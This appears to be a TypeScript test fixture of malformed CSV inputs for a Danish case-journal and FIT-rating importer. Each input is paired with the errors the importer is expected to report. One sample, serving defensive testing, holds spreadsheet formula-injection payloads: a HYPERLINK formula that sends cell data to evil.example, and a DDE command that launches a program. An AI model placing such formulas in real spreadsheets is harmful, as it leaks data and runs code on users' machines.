// One folder per bad input, each with the exact file error or row problems expected:
// empty, header only, missing column, wrong delimiter, mixed encodings, a truncated quote,
// formula-like text (accepted as text), impossible dates, duplicates, bad FIT scores, and
// FIT ratings for a case the case file does not have (accepted: the API reports them).
import { cp1252, csvText, utf8, type SampleFolder } from './sample-csv';

const CRLF = '\r\n';
const BOM = '\uFEFF';
const MIXED = 'mixed encodings: UTF-8 and Windows-1252 characters in one file';

/** About 90 KB of rows with Danish letters: more than the 64 KiB the encoding is judged on. */
const longRows = (count: number) => Array.from({ length: count }, (_, i) => `2019-1;01-02-2019;Mødet med familien er afholdt som planlagt, møde nr. ${i + 1}.${CRLF}`).join('');

const fitHeader = ['Sagsnr', 'Dato', 'Session', 'Instrument', 'Bedømmer', 'Rolle', 'Item1', 'Item2', 'Item3', 'Item4', 'Total'];
const rating = (instrument: string, rater: string, items: string[], total: string, session = '1') => ['A', '01-02-2019', session, instrument, rater, '', ...items, total];
const none = ['', '', '', ''];

export const badSamples: Record<string, SampleFolder> = {
	'import-empty': {
		about: 'A file of zero bytes.',
		files: { 'journaler.csv': { bytes: Buffer.alloc(0), expected: { kind: 'journals', error: { line: null, reason: 'empty file' } } } }
	},
	'import-header-only': {
		about: 'A header and no data rows.',
		files: { 'journaler.csv': { bytes: utf8(`${BOM}Sagsnr;Dato;Tekst${CRLF}`), expected: { kind: 'journals', error: { line: 1, reason: 'header only: the file has no data rows' } } } }
	},
	'import-missing-column': {
		about: 'Required columns missing: journals without a text column, FIT without instrument and without a total or all four items.',
		files: {
			'journaler.csv': {
				bytes: utf8(csvText([['Sagsnr', 'Dato', 'Notattype', 'Overskrift'], ['2019-1', '01-02-2019', 'Notat', 'Samtale']], ';', CRLF)),
				expected: { kind: 'journals', error: { line: 1, reason: 'missing required column: text (headers found: Sagsnr, Dato, Notattype, Overskrift)' } }
			},
			'fit.csv': {
				bytes: utf8(csvText([['Sagsnr', 'Dato', 'Bedømmer', 'Item1', 'Item2'], ['A', '01-02-2019', 'Klient', '5,0', '5,0']], ';', CRLF)),
				expected: { kind: 'fit', error: { line: 1, reason: 'missing required columns: instrument, total (or item1-item4) (headers found: Sagsnr, Dato, Bedømmer, Item1, Item2)' } }
			}
		}
	},
	'import-wrong-delimiter': {
		about: 'Columns separated by "|"; and a header separated by ";" over rows separated by ",".',
		files: {
			'pipes.csv': {
				bytes: utf8(`Sagsnr|Dato|Notattype|Tekst${CRLF}2019-1|01-02-2019|Notat|Kort tekst${CRLF}`),
				expected: { kind: 'journals', error: { line: 1, reason: 'wrong delimiter: the header "Sagsnr|Dato|Notattype|Tekst" is one column; its names are separated by "|" (use ";", "," or tab)' } }
			},
			'rows-comma.csv': {
				bytes: utf8(`Sagsnr;Dato;Notattype;Tekst${CRLF}2019-1,01-02-2019,Notat,Kort tekst${CRLF}2019-1,02-02-2019,Notat,Kort tekst${CRLF}`),
				expected: { kind: 'journals', error: { line: 2, reason: 'wrong delimiter: the header is separated by ";" but the rows are not' } }
			}
		}
	},
	'import-mixed-encodings': {
		about: 'UTF-8 and Windows-1252 in one file: within the first 64 KiB, after it (UTF-8 then cp1252), and the other way round.',
		files: {
			'early.csv': {
				bytes: Buffer.concat([utf8(`Sagsnr;Dato;Tekst${CRLF}2019-1;01-02-2019;Mødet blev holdt${CRLF}`), cp1252(`2019-1;02-02-2019;Mor var glad for mødet${CRLF}`)]),
				expected: { kind: 'journals', error: { line: 3, reason: MIXED } }
			},
			'late-utf8-then-cp1252.csv': {
				bytes: Buffer.concat([utf8(`Sagsnr;Dato;Tekst${CRLF}${longRows(1500)}`), cp1252(`2019-1;02-02-2019;Mor var glad for mødet${CRLF}`), utf8(`2019-1;03-02-2019;Sidste række${CRLF}`)]),
				expected: { kind: 'journals', error: { line: 1502, reason: MIXED } }
			},
			'late-cp1252-then-utf8.csv': {
				bytes: Buffer.concat([cp1252(`Sagsnr;Dato;Tekst${CRLF}${longRows(1500)}`), utf8(`2019-1;02-02-2019;Mor var glad for mødet${CRLF}`)]),
				expected: { kind: 'journals', error: { line: 1502, reason: MIXED } }
			}
		}
	},
	'import-truncated-quote': {
		about: 'The last record opens a quoted field that the file never closes.',
		files: {
			'journaler.csv': {
				bytes: utf8(`Sagsnr;Dato;Tekst${CRLF}2019-1;01-02-2019;Første notat${CRLF}2019-1;02-02-2019;"Andet notat; i citationstegn"${CRLF}2019-1;03-02-2019;"Teksten slutter brat midt i${CRLF}en sætning`),
				expected: { kind: 'journals', error: { line: 4, reason: 'quoted field opened on line 4 is not closed before the end of the file (truncated file?)' } }
			}
		}
	},
	'import-formula-injection': {
		about: 'Texts that a spreadsheet would run as formulas are imported as plain text, unchanged (the exporter escapes them).',
		files: {
			'journaler.csv': {
				bytes: utf8(
					BOM +
						csvText(
							[
								['Sagsnr', 'Dato', 'Tekst'],
								['2019-1', '01-02-2019', '=HYPERLINK("http://evil.example/?d="&A1;"Klik her")'],
								['2019-1', '02-02-2019', '+45 12 34 56 78 ringede igen'],
								['2019-1', '03-02-2019', '-2 dage før mødet blev det aflyst'],
								['2019-1', '04-02-2019', '@SUM(A1:A9)'],
								['2019-1', '05-02-2019', "=cmd|' /C calc'!A0"]
							],
							';',
							CRLF
						)
				),
				expected: {
					kind: 'journals', rows: 5, accepted: 5, rejected: [],
					records: {
						1: { text: '=HYPERLINK("http://evil.example/?d="&A1;"Klik her")' },
						2: { text: '+45 12 34 56 78 ringede igen' },
						3: { text: '-2 dage før mødet blev det aflyst' },
						4: { text: '@SUM(A1:A9)' },
						5: { text: "=cmd|' /C calc'!A0" }
					}
				}
			}
		}
	},
	'import-invalid-dates': {
		about: 'Impossible and unreadable dates, each rejected with a reason quoting the value; 29 February in a leap year is fine.',
		files: {
			'journaler.csv': {
				bytes: utf8(
					csvText(
						[
							['Sagsnr', 'Dato', 'Notattype', 'Tekst'],
							...['31-02-2019', '29-02-2019', '29-02-2020', '31.04.19', '2019-13-01', '30. februar 2019', '5. marz 2019', 'i går', '', '15-06-1850'].map((date) => ['2019-1', date, 'Notat', 'Kort notat.']),
							['2019-1', '01-01-2019', 'Notat', '  '],
							['2019-1', '02-01-2019', 'Notat', 'Kort notat.']
						],
						';',
						CRLF
					)
				),
				expected: {
					kind: 'journals', rows: 12, accepted: 2,
					rejected: [
						{ line: 2, row: 1, column: 'Dato', reason: 'impossible date "31-02-2019" (February 2019 has 28 days)' },
						{ line: 3, row: 2, column: 'Dato', reason: 'impossible date "29-02-2019" (February 2019 has 28 days)' },
						{ line: 5, row: 4, column: 'Dato', reason: 'impossible date "31.04.19" (April 2019 has 30 days)' },
						{ line: 6, row: 5, column: 'Dato', reason: 'impossible date "2019-13-01" (month 13)' },
						{ line: 7, row: 6, column: 'Dato', reason: 'impossible date "30. februar 2019" (February 2019 has 28 days)' },
						{ line: 8, row: 7, column: 'Dato', reason: 'unknown month "marz" in date "5. marz 2019"' },
						{ line: 9, row: 8, column: 'Dato', reason: 'unrecognised date "i går" (expected dd-mm-yyyy, dd.mm.yy, d. måned yyyy or yyyy-mm-dd)' },
						{ line: 10, row: 9, column: 'Dato', reason: 'date is empty' },
						{ line: 11, row: 10, column: 'Dato', reason: 'implausible year in date "15-06-1850"' },
						{ line: 12, row: 11, column: 'Tekst', reason: 'text is empty' }
					],
					records: { 3: { date: '2020-02-29' }, 12: { date: '2019-01-02' } }
				}
			}
		}
	},
	'import-duplicate-rows': {
		about: 'Rows repeating an earlier row once parsed (another date form, spaces, CRLF in text) are rejected as duplicates; for cases, a repeated case id with other values too.',
		files: {
			'journaler.csv': {
				bytes: utf8(
					csvText(
						[
							['Sagsnr', 'Dato', 'Notattype', 'Forfatter', 'Tekst'],
							['2019-1', '01-02-2019', 'Notat', 'SB02', 'Mor ringede.'],
							['2019-1', '02-02-2019', 'Notat', 'SB02', 'Hjemmebesøg.\nAlt vel.'],
							['2019-1', '01-02-2019', 'Notat', 'SB02', 'Mor ringede.'],
							['2019-1', '2.2.2019', 'Notat', ' SB02 ', 'Hjemmebesøg.\r\nAlt vel.  '],
							['2019-1', '03-02-2019', 'Notat', 'SB02', 'Mor ringede.'],
							['2019-1', '01-02-2019', 'Notat', 'SB02', 'Mor ringede.']
						],
						';',
						CRLF
					)
				),
				expected: {
					kind: 'journals', rows: 6, accepted: 3,
					rejected: [
						{ line: 5, row: 3, column: null, reason: 'duplicate of row 1' },
						{ line: 6, row: 4, column: null, reason: 'duplicate of row 2' },
						{ line: 9, row: 6, column: null, reason: 'duplicate of row 1' }
					]
				}
			},
			'fit.csv': {
				bytes: utf8(csvText([['Sagsnr', 'Dato', 'Session', 'Instrument', 'Bedømmer', 'Total'], ['A', '01-02-2019', '1', 'ORS', 'Klient', '21,0'], ['A', '1.2.2019', '1', 'ors', 'klient', '21.0'], ['A', '01-02-2019', '1', 'SRS', 'Klient', '21,0']], ';', CRLF)),
				expected: { kind: 'fit', rows: 3, accepted: 2, rejected: [{ line: 3, row: 2, column: null, reason: 'duplicate of row 1' }] }
			},
			'sager.csv': {
				bytes: utf8(csvText([['Sagsnr', 'Målgruppe', 'Alder'], ['X', 'Børn', '10'], ['X', 'Børn', '11'], ['X', 'Børn', '10'], ['Y', 'Voksne', '40']], ';', CRLF)),
				expected: {
					kind: 'cases', rows: 4, accepted: 2,
					rejected: [
						{ line: 3, row: 2, column: 'Sagsnr', reason: 'case id "X" is already on row 1 with different values' },
						{ line: 4, row: 3, column: null, reason: 'duplicate of row 1' }
					]
				}
			}
		}
	},
	'import-fit-bad-scores': {
		about: 'FIT rows with items and total disagreeing, values out of range, an unknown instrument, 3 of 4 items, no score, and the edge cases that pass (total 0, a 0.05 rounding difference).',
		files: {
			'fit.csv': {
				bytes: utf8(
					csvText(
						[
							fitHeader,
							rating('ORS', 'Klient', ['5,0', '5,0', '5,0', '6,5'], '23,0'),
							rating('ORS', 'Klient', ['11,0', '5,0', '5,0', '5,0'], '26,0'),
							rating('SRS', 'Klient', none, '41,5'),
							rating('XYZ', 'Klient', none, '20,0'),
							rating('ORS', 'Klient', ['5,0', '5,0', '5,0', ''], '15,0'),
							rating('ORS', 'Klient', none, ''),
							rating('ORS', 'Klient', ['-1', '5', '5', '5'], ''),
							rating('ORS', 'Klient', none, '1.234,5'),
							rating('ORS', 'Klient', none, 'abc'),
							rating('ORS', 'Lærer', none, '0'),
							rating('ORS', 'Nabo', none, '20'),
							rating('ORS', 'Klient', none, '20', '0'),
							rating('ORS', 'Klient', ['5,0', '5,0', '5,0', '5,0'], '20,05', '2'),
							rating('SRS', 'Klient', ['9,0', '9,0', '9,0', '9,0'], '36,1', '2')
						],
						';',
						CRLF
					)
				),
				expected: {
					kind: 'fit', rows: 14, accepted: 2,
					rejected: [
						{ line: 2, row: 1, column: 'Total', reason: 'items sum to 21.5 but total is 23.0' },
						{ line: 3, row: 2, column: 'Item1', reason: 'item "11,0" is outside 0-10' },
						{ line: 4, row: 3, column: 'Total', reason: 'total "41,5" is outside 0-40' },
						{ line: 5, row: 4, column: 'Instrument', reason: "Unknown instrument 'XYZ' (expected ORS, CORS, YCORS, SRS or CSRS)" },
						{ line: 6, row: 5, column: 'Item4', reason: '3 of 4 items given (a rating holds all four items or only the total)' },
						{ line: 7, row: 6, column: 'Total', reason: 'no score: the total and all four items are empty' },
						{ line: 8, row: 7, column: 'Item1', reason: 'item "-1" is outside 0-10' },
						{ line: 9, row: 8, column: 'Total', reason: 'two decimal separators in "1.234,5"' },
						{ line: 10, row: 9, column: 'Total', reason: 'not a number: "abc"' },
						{ line: 12, row: 11, column: 'Bedømmer', reason: 'unknown rater "Nabo" (expected Klient/client or Parallelbedømmer/collateral)' },
						{ line: 13, row: 12, column: 'Session', reason: 'session "0" must be 1 or more' },
						{ line: 15, row: 14, column: 'Total', reason: 'items sum to 36.0 but total is 36.1' }
					],
					records: { 10: { raterType: 'collateral', raterRole: 'lærer', items: null, total: 0 }, 13: { items: [5, 5, 5, 5], total: 20.05 } }
				}
			}
		}
	},
	'import-fit-unknown-case': {
		about: 'FIT ratings for case C, which the case file does not have: the parser accepts them; the API reports them and they import when the case arrives.',
		files: {
			'sager.csv': {
				bytes: utf8(csvText([['Sagsnr', 'Målgruppe', 'Alder'], ['A', 'Børn og unge', '10'], ['B', 'Voksne', '40']], ';', CRLF)),
				expected: { kind: 'cases', rows: 2, accepted: 2, rejected: [] }
			},
			'fit.csv': {
				bytes: utf8(csvText([fitHeader, rating('ORS', 'Klient', none, '20,0'), ['C', '02-02-2019', '1', 'ORS', 'Klient', '', '', '', '', '', '22,0'], rating('SRS', 'Klient', none, '38,0')], ';', CRLF)),
				expected: { kind: 'fit', rows: 3, accepted: 3, rejected: [] }
			}
		},
		extra: { caseIdsNotInCases: ['C'] }
	}
};
